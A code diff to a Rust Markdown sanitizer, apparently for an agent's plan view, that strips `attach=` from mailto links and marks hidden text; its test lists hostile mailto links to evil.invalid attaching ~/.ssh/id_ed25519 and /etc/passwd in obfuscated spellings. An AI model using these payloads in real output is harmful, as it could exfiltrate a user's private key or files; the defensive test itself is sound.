@@ -88,11 +88,30 @@ fn sanitizer() -> &'static Builder<'static> {
                 (_, "class") => None,
                 // Ids cannot clobber the page's own elements or globals.
                 (_, "id") => Some(user_id(value).into()),
-                ("a", "href") => Some(user_fragment(value)),
+                ("a", "href") => link_target(value).map(|t| user_fragment(&t).into_owned().into()),
                 _ => Some(value.into()),
             });
         b
     })
+}
+
+/// Raw HTML as the page shows it (what [`render`] puts in its place).
+pub(crate) fn sanitize(raw: &str) -> String {
+    sanitizer().clean(raw).to_string()
+}
+
+/// The text raw HTML carries, every element unwrapped and none dropped with its content
+/// (`<style>`, `<script>` included): what a reader of the source takes in, for
+/// [`crate::hidden`] to compare with what the page shows.
+pub(crate) fn reveal(raw: &str) -> String {
+    static B: OnceLock<Builder<'static>> = OnceLock::new();
+    B.get_or_init(|| {
+        let mut b = Builder::empty();
+        b.clean_content_tags(HashSet::new());
+        b
+    })
+    .clean(raw)
+    .to_string()
 }
 
 /// Prefix of every id in rendered plans, as on GitHub: a plan's ids (and `#` links to
@@ -119,6 +138,26 @@ fn safe_language(info: &str) -> &str {
         .find(|c: char| !(c.is_ascii_alphanumeric() || "+#._-".contains(c)))
         .unwrap_or(word.len());
     &word[..end]
+}
+
+/// What a link may point at, if anything: an allowed target as it is, except a `mailto:`
+/// link, which keeps only the fields of a message (`attach=` and the like are dropped; see
+/// [`waymark_protocol::links::safe_mailto`]), or is no link at all when it does not decode.
+fn link_target(url: &str) -> Option<std::borrow::Cow<'_, str>> {
+    if !allowed_url(url) {
+        return None;
+    }
+    // Read as a browser reads it: tabs and line breaks inside a URL are dropped, so
+    // `mail\nto:` is a `mailto:` link too.
+    let compact: String = url
+        .chars()
+        .filter(|c| !c.is_whitespace() && !c.is_control())
+        .collect();
+    let scheme = compact.split(':').next().unwrap_or("");
+    if scheme.eq_ignore_ascii_case("mailto") {
+        return waymark_protocol::links::safe_mailto(&compact).map(Into::into);
+    }
+    Some(url.into())
 }
 
 /// Whether a link target is allowed: http(s), mailto, or relative (no scheme).
@@ -178,36 +217,91 @@ fn footnote_def(name: &str, n: usize) -> String {
     out
 }
 
-/// Sanitized HTML of a plan.
+/// The marker of a part of the plan the page does not show (see [`crate::hidden`]): a button
+/// that shows it, and its source, escaped, hidden until then. The window's click handler for
+/// rendered Markdown toggles it.
+fn hidden_marker(source: &str, block: bool) -> String {
+    use pulldown_cmark_escape::escape_html;
+    let (outer, inner_open, inner_close, label) = if block {
+        (
+            "div",
+            "<pre class=\"plan-hidden-text\" hidden><code>",
+            "</code></pre>",
+            "Hidden in the rendered plan",
+        )
+    } else {
+        (
+            "span",
+            "<code class=\"plan-hidden-text\" hidden>",
+            "</code>",
+            "hidden text",
+        )
+    };
+    let mut out = format!(
+        "<{outer} class=\"plan-hidden\"><button type=\"button\" class=\"plan-hidden-toggle\" data-hidden-toggle=\"\" aria-expanded=\"false\">{label} · show</button>{inner_open}"
+    );
+    let _ = escape_html(&mut out, source.trim_end_matches('\n'));
+    out.push_str(inner_close);
+    out.push_str(&format!("</{outer}>"));
+    if block {
+        out.push('\n');
+    }
+    out
+}
+
+/// Sanitized HTML of a plan. What the page would not show (comments, dropped elements, link
+/// definitions: [`crate::hidden`]) shows as a marker that reveals it.
 pub fn render(markdown: &str) -> String {
     use pulldown_cmark::{CowStr, Event, Tag, TagEnd};
     let mut events: Vec<Event<'_>> = Vec::new();
+    // The raw HTML run being read, and whether all of it is block HTML.
     let mut raw = String::new();
+    let mut raw_block = true;
     // For each open link: whether its tags were dropped (unsafe target).
     let mut links: Vec<bool> = Vec::new();
     let mut footnotes: HashMap<String, usize> = HashMap::new();
-    let flush = |raw: &mut String, events: &mut Vec<Event<'_>>| {
+    let flush = |raw: &mut String, block: &mut bool, events: &mut Vec<Event<'_>>| {
         if !raw.is_empty() {
+            if crate::hidden::hides(raw) {
+                events.push(Event::Html(CowStr::from(hidden_marker(raw, *block))));
+            }
             let clean = sanitizer().clean(raw).to_string();
             events.push(Event::Html(CowStr::from(clean)));
             raw.clear();
         }
+        *block = true;
     };
-    for ev in Parser::new_ext(markdown, options()) {
+    // Markdown that renders nothing, between blocks, each shown as a marker where it stands.
+    let mut unrendered = crate::hidden::spans(markdown)
+        .into_iter()
+        .filter(|h| h.kind == crate::hidden::Kind::Unrendered)
+        .peekable();
+    for (ev, at) in Parser::new_ext(markdown, options()).into_offset_iter() {
+        while let Some(h) = unrendered.next_if(|h| h.range.end <= at.start) {
+            flush(&mut raw, &mut raw_block, &mut events);
+            events.push(Event::Html(CowStr::from(hidden_marker(
+                &markdown[h.range],
+                true,
+            ))));
+        }
         match ev {
-            Event::Html(h) | Event::InlineHtml(h) => raw.push_str(&h),
+            Event::Html(h) => raw.push_str(&h),
+            Event::InlineHtml(h) => {
+                raw_block = false;
+                raw.push_str(&h);
+            }
             other => {
-                flush(&mut raw, &mut events);
+                flush(&mut raw, &mut raw_block, &mut events);
                 match other {
                     Event::Start(Tag::Link {
                         ref dest_url,
                         ref title,
                         ..
                     }) => {
-                        let ok = allowed_url(dest_url);
-                        links.push(!ok);
-                        if ok {
-                            events.push(Event::Html(CowStr::from(link_open(dest_url, title))));
+                        let target = link_target(dest_url);
+                        links.push(target.is_none());
+                        if let Some(t) = target {
+                            events.push(Event::Html(CowStr::from(link_open(&t, title))));
                         }
                     }
                     Event::End(TagEnd::Link) => {
@@ -249,7 +343,13 @@ pub fn render(markdown: &str) -> String {
             }
         }
     }
-    flush(&mut raw, &mut events);
+    flush(&mut raw, &mut raw_block, &mut events);
+    for h in unrendered {
+        events.push(Event::Html(CowStr::from(hidden_marker(
+            &markdown[h.range],
+            true,
+        ))));
+    }
     let mut out = String::with_capacity(markdown.len() * 3 / 2);
     html::push_html(&mut out, events.into_iter());
     out
@@ -368,7 +468,11 @@ mod tests {
             let task_box = name == "input"
                 && tag.contains("disabled=\"\"")
                 && tag.contains("type=\"checkbox\"");
-            let allowed = TAGS.contains(&name.as_str()) || name.is_empty() || task_box;
+            // The renderer's own marker of hidden text: a plain button, no form's.
+            let marker = name == "button"
+                && (tag == "/button"
+                    || tag.starts_with("button type=\"button\" class=\"plan-hidden-toggle\""));
+            let allowed = TAGS.contains(&name.as_str()) || name.is_empty() || task_box || marker;
             if !allowed {
                 found.push(format!("tag <{name}>"));
             }
@@ -400,6 +504,46 @@ mod tests {
             }
         }
         found
+    }
+
+    /// A `mailto:` link in a plan or a reply keeps only the fields of a message: a client that
+    /// honours `attach=` would attach a local file (the user's SSH key) to a mail to the
+    /// agent's address. Markdown links, raw HTML links and autolinks, in every spelling.
+    #[test]
+    fn a_mailto_link_loses_its_attach_field() {
+        for hostile in [
+            "[mail me](mailto:x@evil.invalid?subject=hi&attach=~/.ssh/id_ed25519)",
+            "[mail me](MAILTO:x@evil.invalid?ATTACH=/etc/passwd)",
+            "[mail me](mailto:x@evil.invalid?subject=a;attach=/etc/passwd)",
+            "[mail me](mailto:x@evil.invalid?%61ttach=/etc/passwd)",
+            "<a href=\"mailto:x@evil.invalid?attach=/etc/passwd\">mail</a>",
+            "<a href=\"mailto:x@evil.invalid?&#97;ttach=/etc/passwd\">mail</a>",
+            "<a href=\"mail\tto:x@evil.invalid?attach=/etc/passwd\">mail</a>",
+            "<a href=\"mail&#10;to:x@evil.invalid?attach=/etc/passwd\">mail</a>",
+            "<mailto:x@evil.invalid?attach=/etc/passwd>",
+            "[m][r]\n\n[r]: mailto:x@evil.invalid?attach=/etc/passwd",
+        ] {
+            let html = render(hostile);
+            let lower = html.to_ascii_lowercase();
+            let hrefs: Vec<&str> = lower
+                .match_indices("href=\"")
+                .map(|(i, _)| {
+                    let rest = &lower[i + 6..];
+                    &rest[..rest.find('"').unwrap_or(rest.len())]
+                })
+                .collect();
+            assert!(
+                hrefs
+                    .iter()
+                    .all(|h| !h.contains("attach") && !h.contains("%61ttach")),
+                "{hostile} -> {html}"
+            );
+        }
+        let kept = render("[mail](mailto:dev@example.invalid?subject=Plan&body=Looks%20good)");
+        assert!(
+            kept.contains("href=\"mailto:dev@example.invalid?subject=Plan&amp;body=Looks%20good\""),
+            "{kept}"
+        );
     }
 
     #[test]
